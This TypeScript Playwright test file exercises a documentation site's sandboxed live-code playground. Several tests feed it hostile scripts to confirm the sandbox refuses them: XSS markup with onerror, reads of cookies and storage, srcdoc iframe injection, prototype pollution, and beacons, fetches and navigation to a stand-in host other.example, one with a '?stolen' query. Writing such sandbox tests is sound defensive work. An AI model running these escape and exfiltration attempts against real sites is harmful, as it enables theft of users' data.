import axe from 'axe-core';

import { fixtureNotes } from '../support/fixtureNotes';
import { expect, open, test } from '../support/test';
import { runEdited, showLive } from './liveSample';
import { note } from './sample';

test.use({ site: 'fixtures' });

const shown = 'The frame shows your copy.';

for (const [colorScheme, filter] of [
  ['light', 'none'],
  ['dark', 'invert(0.93) hue-rotate(180deg)'],
] as const) {
  test.describe(`in the ${colorScheme} mode`, () => {
    test.use({ colorScheme });

    test('a frame follows, as recorded and as edited', async ({ page }) => {
      const sample = await showLive(page, 'box.html');
      const frame = sample.figure.locator('iframe');
      await expect(frame).toHaveCSS('filter', filter);
      await runEdited(sample, 'box.html', '<p>mine</p>');
      await expect(sample.frame.locator('p')).toHaveText('mine');
      await expect(frame).toHaveCSS('filter', filter);
    });
  });
}

test.describe('a page with a live result', () => {
  test('is edited, run and reset; nothing of it is loaded before', async ({ page, foreignRequests }) => {
    const requests: string[] = [];
    page.on('request', (request) => requests.push(new URL(request.url()).pathname));
    const sample = await showLive(page, 'box.html');
    await expect(sample.frame.locator('p')).toHaveText('recorded');
    await page.waitForLoadState('networkidle');
    expect(requests.filter((path) => /edit-|\.json$|run-/.test(path) && path.startsWith('/frames'))).toEqual([]);
    await sample.edit.click();
    await expect(sample.text('box.html')).toBeFocused();
    expect(requests.filter((path) => path.includes('/edit-'))).toEqual([]);

    const text = await sample.text('box.html').inputValue();
    await runEdited(sample, 'box.html', text.replace('recorded', 'edited'));
    await expect(sample.status).toHaveText(shown);
    await expect(sample.frame.locator('p')).toHaveText('edited');
    await expect(sample.frame.locator('p')).toHaveAttribute('title', 'scripted');
    expect(await sample.frame.locator('p').evaluate((p) => p.getBoundingClientRect().x)).toBe(38);
    await sample.frame.locator('p').click();
    await expect(sample.frame.locator('p')).toHaveText('clicked');

    await runEdited(sample, 'box.css', 'p { margin-left: 70px }');
    await runEdited(sample, 'box.js', 'document.querySelector("p").title = document.compatMode;');
    await expect(sample.frame.locator('p')).toHaveAttribute('title', 'CSS1Compat');
    expect(await sample.frame.locator('p').evaluate((p) => p.getBoundingClientRect().x)).toBe(78);

    await sample.reset.click();
    await expect(sample.frame.locator('p')).toHaveText('recorded');
    await expect(sample.text('box.html')).toHaveValue(text);
    await expect(sample.text('box.css')).toHaveValue(/30px/);
    await expect(sample.status).toBeHidden();
    expect(requests.filter((path) => path.includes('/edit-html')).length).toBe(3);
    expect(foreignRequests).toEqual([]);
  });

  test('says its errors and what it prints as text, never as markup', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    const markup = `<img src=x onerror="parent.document.title='taken'"><b>`;
    await runEdited(
      sample,
      'box.js',
      `console.log(${JSON.stringify(markup)}, { a: 1 }); throw new Error(${JSON.stringify(markup)});`,
    );
    await expect(sample.told).toContainText(`${markup} {"a":1}\nUncaught Error: ${markup}`);
    expect(await sample.told.locator('img, b').count()).toBe(0);
    expect(await page.title()).not.toContain('taken');
  });

  test('tells what its stylesheet says in vain, and a script that is none in plain words', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    await sample.edit.click();
    const text = await sample.text('box.html').inputValue();
    await runEdited(sample, 'box.css', 'p { positon: relative; margin-left: 70px; color: rgb(1 2 3) }');
    await expect(sample.told).toHaveText('Not understood: positon: relative\n');
    await runEdited(sample, 'box.css', 'p { margin-left: 70px }');
    await runEdited(sample, 'box.html', `${text}<script>let a = ;</script>`);
    await expect(sample.told).toHaveText("Uncaught SyntaxError: Unexpected token ';'\n");
  });

  test('brings its result onto a small screen', async ({ page }) => {
    await page.setViewportSize({ width: 360, height: 640 });
    const sample = await showLive(page, 'box.html');
    await sample.edit.click();
    await sample.text('box.css').fill('p { margin-left: 70px }');
    await sample.run.click();
    await expect(sample.status).toHaveText(shown);
    await expect(sample.status).toBeInViewport();
  });

  test.use({ expectedProblems: /Uncaught|Error: |<img/ });
});

test.describe('a component with a live result', () => {
  test.use({ expectedProblems: /Error|boom/ });

  test('is edited, compiled and run, with its stylesheet', async ({ page }) => {
    const sample = await showLive(page, 'Counter.tsx');
    await expect(sample.frame.getByRole('button')).toHaveText('Count 0');
    await sample.edit.click();
    const text = await sample.text('Counter.tsx').inputValue();
    await runEdited(sample, 'Counter.tsx', text.replace('count + 1', 'count + 5').replace('Count {', 'Sum {'));
    await expect(sample.status).toHaveText(shown);
    await expect(sample.frame.getByRole('button')).toHaveText('Sum 0');
    await sample.frame.getByRole('button').click();
    await expect(sample.frame.getByRole('button')).toHaveText('Sum 5');
    expect(await sample.frame.getByRole('button').evaluate((button) => getComputedStyle(button).paddingTop)).toBe(
      '11px',
    );

    await runEdited(sample, 'Counter.tsx', `${text}\nconst broken = <p>;`);
    await expect(sample.told).toHaveText(/^Counter\.tsx: .*\(\d+:\d+\)\n$/);
    await expect(sample.status).toHaveText('Not compiled: the frame shows what it showed before.');
    await expect(sample.frame.getByRole('button')).toHaveText('Sum 5');

    await runEdited(sample, 'Counter.tsx', 'export default function Counter() {\n  throw new Error("boom");\n}');
    await expect(sample.told).toContainText('boom (Counter.tsx:2)');
    await runEdited(sample, 'Counter.tsx', "import fs from 'node:fs';\nexport default () => fs;");
    await expect(sample.told).toContainText('There is no module node:fs here: only react');
    await runEdited(sample, 'Counter.tsx', 'let a = 1;\nlet a = 2;');
    await expect(sample.told).toContainText("SyntaxError: Identifier 'a' has already been declared");

    await sample.reset.click();
    await expect(sample.frame.getByRole('button')).toHaveText('Count 0');
  });
});

test.describe('hostile code in an edited sample', () => {
  test.use({ expectedProblems: /./ });

  const attack = `
    const tried = {};
    const attempt = (name, does) => { try { tried[name] = does() ?? 'done'; } catch { tried[name] = 'refused'; } };
    attempt('parent', () => parent.document.title);
    attempt('top', () => top.localStorage);
    attempt('localStorage', () => localStorage.setItem('a', 'b'));
    attempt('sessionStorage', () => sessionStorage.length);
    attempt('cookie', () => document.cookie);
    attempt('caches', () => caches.open('x').then(() => { tried.caches = 'opened'; }, () => {}) && 'asked');
    attempt('indexedDB', () => { indexedDB.open('x').onsuccess = () => { tried.indexedDB = 'opened'; }; return 'asked'; });
    attempt('eval', () => eval('1'));
    attempt('Function', () => Function('return 1')());
    attempt('top.location', () => { top.location = 'https://other.example/top'; });
    attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { tried.worker = 'ran'; }; return 'asked'; });
    attempt('service worker', () => { navigator.serviceWorker.register('/x.js'); });
    attempt('WebRTC', () => new RTCPeerConnection());
    attempt('WebSocket', () => { new WebSocket('wss://other.example/').onopen = () => { tried.WebSocket = 'opened'; }; return 'asked'; });
    const rtc = '<script>parent.parent.postMessage("inner", "*"); new RTCPeerConnection()</' + 'script>';
    const inner = document.createElement('iframe');
    attempt('srcdoc', () => { inner.srcdoc = rtc; });
    attempt('setAttribute', () => inner.setAttribute('srcdoc', rtc));
    attempt('setAttributeNode', () => { const node = document.createAttribute('srcdoc'); node.value = rtc; inner.setAttributeNode(node); });
    attempt('setAttributeNS', () => inner.setAttributeNS(null, 'srcdoc', rtc));
    attempt('attribute value', () => { inner.attributes.getNamedItem('srcdoc').value = rtc; });
    attempt('innerHTML', () => { document.querySelector('p').innerHTML = '<iframe SrcDoc="' + rtc.replaceAll('"', '&quot;') + '">'; });
    attempt('parser', () => { new DOMParser().parseFromString('<iframe srcdoc="x">', 'text/html'); });
    attempt('fragment', () => { document.createRange().createContextualFragment('<iframe srcdoc="x">'); });
    attempt('write', () => { document.write('<iframe srcdoc="x">'); });
    attempt('script', () => { const one = document.createElement('script'); one.text = 'tried.script = "ran"'; document.head.append(one); });
    document.body.append(inner);
    attempt('about:blank', () => { const blank = document.createElement('iframe'); document.body.append(blank); return typeof blank.contentWindow.RTCPeerConnection; });
    attempt('policy', () => { trustedTypes.createPolicy('other', { createHTML: (text) => text }); });
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    add('img', { src: 'https://other.example/image' });
    add('link', { rel: 'stylesheet', href: 'https://other.example/style' });
    add('link', { rel: 'prefetch', href: 'https://other.example/prefetch' });
    add('iframe', { src: 'https://other.example/frame' });
    add('iframe', { src: '/docs/introduction' });
    attempt('object', () => add('object', { data: 'https://other.example/object' }));
    add('video', { src: 'https://other.example/video' });
    add('form', { action: 'https://other.example/form', method: 'post' });
    document.forms[0].submit();
    navigator.sendBeacon('https://other.example/beacon', 'x');
    open('https://other.example/popup');
    parent.postMessage({ kind: 'line', text: 'forged' }, '*');
    import('https://other.example/module.js').then(() => { tried.module = 'ran'; }, () => {});
    Promise.all(['https://other.example/fetch', '/docs/introduction'].map((url) => fetch(url).then(() => 'fetched', () => 'refused')))
      .then((fetches) => setTimeout(() => console.log('TRIED' + JSON.stringify({ ...tried, fetches, origin })), 500));`;

  test('reaches neither page nor storage nor network', async ({ page, baseURL, foreignRequests }) => {
    const sample = await showLive(page, 'box.html');
    await page.evaluate(() => {
      localStorage.setItem('secret', 'kept');
      document.cookie = 'secret=kept';
      const heard: unknown[] = [];
      Object.assign(window, { heard });
      addEventListener('message', ({ data }) => heard.push(data));
    });
    await sample.edit.click();
    await expect(sample.text('box.js')).toBeVisible();
    const requests: string[] = [];
    page.on('request', (request) => {
      // Others are announced and then refused; `foreignRequests` are those that were sent.
      if (request.url().startsWith(baseURL!)) requests.push(new URL(request.url()).pathname);
    });
    await runEdited(sample, 'box.js', attack);
    await expect(sample.told).toContainText('TRIED');
    const tried = JSON.parse(/TRIED(.*)/.exec(await sample.told.innerText())![1]!) as Record<string, unknown>;
    const refused = Object.fromEntries(
      [
        'parent',
        'top',
        'localStorage',
        'sessionStorage',
        'cookie',
        'eval',
        'Function',
        'WebRTC',
        'top.location',
        'policy',
      ]
        .concat([
          'srcdoc',
          'setAttribute',
          'setAttributeNode',
          'setAttributeNS',
          'innerHTML',
          'parser',
          'fragment',
          'write',
          'script',
        ])
        .map((name) => [name, 'refused']),
    );
    expect(tried).toMatchObject({ ...refused, origin: 'null', fetches: ['refused', 'refused'] });
    expect([tried['attribute value'], tried['about:blank']]).toEqual(['refused', 'refused']);
    expect(Object.values(tried)).not.toContain('opened');
    expect(Object.values(tried)).not.toContain('ran');
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).not.toContain('inner');
    // The empty document that it is shown in, and what the page itself asked for to run and to colour it.
    const own = /^\/frames\/edit-html-\w+$|^\/assets\/files\/run-colours-\w+\.js$/;
    expect(requests.filter((path) => !own.test(path))).toEqual([]);
    expect(foreignRequests).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    await expect(sample.told).not.toContainText('forged');
    await expect(page).toHaveURL(note);
  });

  test('gets no document inside its own', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    await page.evaluate(() => {
      const heard: unknown[] = [];
      Object.assign(window, { heard });
      addEventListener('message', ({ data }) => heard.push(data));
    });
    const inner = `<iframe SRCDOC="<script>parent.parent.postMessage('inner', '*')</script>"></iframe>`;
    const script = `parent.postMessage('outer', '*'); document.body.append(document.querySelector('template').content.cloneNode(true));`;
    await runEdited(
      sample,
      'box.html',
      `${inner}<template>${inner}</template><svg><style>${inner}</style></svg><script>${script}</script>`,
    );
    await expect.poll(() => page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toContain('outer');
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([
      // Of our document itself, before there was anything in it.
      { kind: 'hello', token: expect.any(String) },
      'outer',
    ]);
  });

  test('cannot turn the frame into another site', async ({ page, foreignRequests }) => {
    const sample = await showLive(page, 'box.html');
    await runEdited(sample, 'box.js', 'setTimeout(() => { location = "https://other.example/?stolen"; }, 100);');
    await expect(sample.status).toHaveText(/^Stopped: the frame gave no answer/);
    expect(foreignRequests).toEqual([]);
    await expect(page).toHaveURL(note);
  });

  test('sees nothing of what was run before or after it', async ({ page }) => {
    const sample = await showLive(page, 'Counter.tsx');
    await runEdited(
      sample,
      'Counter.tsx',
      'Object.prototype.polluted = "yes"; globalThis.left = 1; MessagePort.prototype.postMessage = null;',
    );
    expect(await page.evaluate(() => ({}))).toEqual({});
    await runEdited(sample, 'Counter.tsx', 'console.log(typeof globalThis.left, ({} as any).polluted);');
    await expect(sample.told).toHaveText('undefined undefined');
  });
});

test.describe('an edited sample without end or measure', () => {
  test.use({ expectedProblems: /./ });

  for (const [name, file, text] of [
    ['an endless loop in a page', 'box.html', 'for (;;);'],
    ['an endless loop on a click', 'box.html', 'document.querySelector("p").onclick = () => { for (;;); };'],
    ['an endless loop in a component', 'Counter.tsx', 'export default () => { for (;;); };'],
  ] as const) {
    test(`${name} is replaced within ten seconds, and the page stays alive`, { tag: '@clock' }, async ({ page }) => {
      const sample = await showLive(page, file);
      await sample.edit.click();
      await sample.text(file === 'box.html' ? 'box.js' : file).fill(text);
      await page.evaluate(() => {
        let last = performance.now();
        Object.assign(window, { longest: 0 });
        const look = (): void => {
          const now = performance.now();
          Object.assign(window, { longest: Math.max((window as unknown as { longest: number }).longest, now - last) });
          last = now;
          requestAnimationFrame(look);
        };
        look();
      });
      await sample.run.click();
      if (name.endsWith('click')) {
        await expect(sample.status).toHaveText(shown);
        await sample.frame
          .locator('p')
          .click({ noWaitAfter: true, timeout: 1500 })
          .catch(() => undefined);
      }
      await expect(sample.status).toHaveText(/^Stopped: the frame gave no answer for 1.25 seconds/, {
        timeout: 10_000,
      });
      expect(await page.evaluate(() => (window as unknown as { longest: number }).longest)).toBeLessThan(2000);
      await sample.reset.click();
      await expect(sample.frame.locator('p, button')).toHaveText(/recorded|Count 0/);
    });
  }

  test('an endless loop in one of several frames leaves none of the others dead', async ({ page }) => {
    await open(page, fixtureNotes.positions.route);
    const figures = page.locator('figure.sample:has(.sample__live)');
    const count = await figures.count();
    expect(count).toBeGreaterThan(2);
    await figures
      .first()
      .getByRole('button', { name: /^Edit / })
      .click();
    await figures.first().getByRole('textbox').first().fill('<script>for (;;);</script>');
    await figures.first().getByRole('button', { name: /^Run / }).click();
    await expect(figures.first().locator('.playground__status')).toHaveText(/^Stopped/, { timeout: 16_000 });
    for (let place = 1; place < count; place++) {
      await figures.nth(place).scrollIntoViewIfNeeded();
      await expect(figures.nth(place).frameLocator('iframe').locator('body > *').first()).toBeVisible();
    }
  });

  test('a flood of text is cut with a notice', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    await runEdited(
      sample,
      'box.js',
      'setInterval(() => { for (let i = 0; i < 100; i++) console.log("x".repeat(99)); });',
    );
    await expect(sample.status).toHaveText(/^Stopped: it told the page more than 64 KiB/);
    expect((await sample.told.locator('code').textContent())!.length).toBeLessThan(70_000);
  });
});

test.describe('a flood of messages', () => {
  test.use({ expectedProblems: /./ });

  for (const [name, script] of [
    ['empty lines', 'setInterval(() => { for (let i = 0; i < 500; i++) console.log(); }, 1);'],
    ['messages to the page', 'setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage(1, "*"); }, 1);'],
    ['many lines at once', 'for (let i = 0; i < 20_000; i++) console.log(i);'],
  ] as const) {
    test(`of ${name} ends the frame, and the page answers`, async ({ page }) => {
      const sample = await showLive(page, 'box.html');
      await runEdited(sample, 'box.js', script);
      await expect(sample.status).toHaveText(/^Stopped: it told the page more than/);
      await expect(sample.stop).toBeDisabled();
      await sample.reset.click();
      await expect(sample.frame.locator('p')).toHaveText('recorded');
    });
  }

  test('a frame can be stopped while it works', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    await runEdited(sample, 'box.js', 'let n = 0; setInterval(() => console.log(++n), 50);');
    await expect(sample.told).toContainText('3');
    await sample.stop.click();
    await expect(sample.status).toHaveText('Stopped: the frame is empty. Run shows your copy anew.');
    await expect(sample.frame.locator('p')).toHaveCount(0);
    await sample.run.click();
    await expect(sample.frame.locator('p')).toHaveText('recorded');
  });

  test('a frame fills no history of the reader', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    const before = await page.evaluate(() => history.length);
    await runEdited(
      sample,
      'box.js',
      'for (let i = 0; i < 40; i++) history.pushState(i, ""); console.log(history.state);',
    );
    await expect(sample.told).toHaveText('39\n');
    expect(await page.evaluate(() => history.length)).toBeLessThan(before + 5);
  });

  test('a frame that fills it by its address is stopped, and Back leads where it led', async ({ page }) => {
    await open(page, fixtureNotes.symbols.route);
    const sample = await showLive(page, 'box.html');
    await runEdited(sample, 'box.js', 'setTimeout(() => { for (let i = 0; i < 30; i++) location.hash = i; }, 100);');
    await expect(sample.status).toHaveText(/^Stopped: its script filled your browser’s history/);
    // Some entries may go with the frame, in a while, and only then is it known how many are left.
    await page.waitForTimeout(1500);
    await page.goBack();
    await expect(page).toHaveURL(fixtureNotes.symbols.route);
  });

  test('a document that grows beyond measure is emptied', async ({ page }) => {
    const sample = await showLive(page, 'box.html');
    await runEdited(
      sample,
      'box.js',
      // Not drawn, so that it is large and not slow.
      'const box = document.createElement("div"); box.hidden = true; box.innerHTML = "<i></i>".repeat(60_000); document.body.append(box);',
    );
    await expect(sample.status).toHaveText('Stopped: its document grew beyond 50,000 elements.');
    await expect(sample.frame.locator('i')).toHaveCount(0);
  });

  test('a frame that takes memory is emptied where the browser tells how much', async ({ page }) => {
    // As on a host that isolates the page; only there a browser measures.
    await page.addInitScript(() => {
      let bytes = 0;
      Object.defineProperty(window, 'crossOriginIsolated', { value: true });
      Object.assign(performance, {
        measureUserAgentSpecificMemory: () => Promise.resolve({ bytes: (bytes += 2 ** 29) }),
      });
    });
    const sample = await showLive(page, 'box.html');
    await runEdited(sample, 'box.js', 'console.log(1)');
    await expect(sample.status).toHaveText('Stopped: the page grew by more than 512 MiB of memory.');
  });
});

test.describe('where loading fails', () => {
  test.use({ expectedProblems: /ERR_FAILED|Failed to load|NetworkError/ });

  test('it is told, and the next try works', async ({ page }) => {
    const sample = await showLive(page, 'Counter.tsx');
    await page.route('**/*.json', (route) => route.abort());
    await sample.edit.click();
    await expect(sample.edit).toHaveText('Try again');
    await page.unroute('**/*.json');
    await sample.edit.click();
    await page.route('**/assets/files/**', (route) => route.abort());
    await sample.run.click();
    await expect(sample.told).toContainText('It could not be run');
    await page.unroute('**/assets/files/**');
    await sample.run.click();
    await expect(sample.status).toHaveText(shown);
  });
});

test('works by keyboard alone, and Tab leads through', async ({ page }) => {
  const sample = await showLive(page, 'box.html');
  await sample.edit.focus();
  await page.keyboard.press('Enter');
  await expect(sample.text('box.html')).toBeFocused();
  await page.keyboard.press('Control+a');
  await page.keyboard.type('<p>typed</p>');
  await page.keyboard.press('Control+Enter');
  await expect(sample.frame.locator('p')).toHaveText('typed');
  await expect(sample.text('box.html')).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(sample.text('box.css')).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Shift+Tab');
  await expect(sample.reset).toBeFocused();
});

for (const colorScheme of ['light', 'dark'] as const) {
  test.describe(`an open editor at 360 pixels, ${colorScheme}`, () => {
    test.use({ viewport: { width: 360, height: 740 }, colorScheme, expectedProblems: /Error/ });

    test('fits, and breaks no rule of WCAG 2.2 AA that axe knows', async ({ page }) => {
      const sample = await showLive(page, 'box.html');
      await runEdited(sample, 'box.js', 'throw new Error("so that something is told");');
      await expect(sample.told).toBeVisible();
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
      for (const control of [sample.run, sample.reset]) {
        const { width, height } = (await control.boundingBox())!;
        expect(Math.min(width, height)).toBeGreaterThanOrEqual(24);
      }
      await page.evaluate(axe.source);
      const { violations } = await page.evaluate(() =>
        (window as unknown as { axe: typeof axe }).axe.run('#live', {
          runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
          iframes: false,
        }),
      );
      expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
    });
  });
}
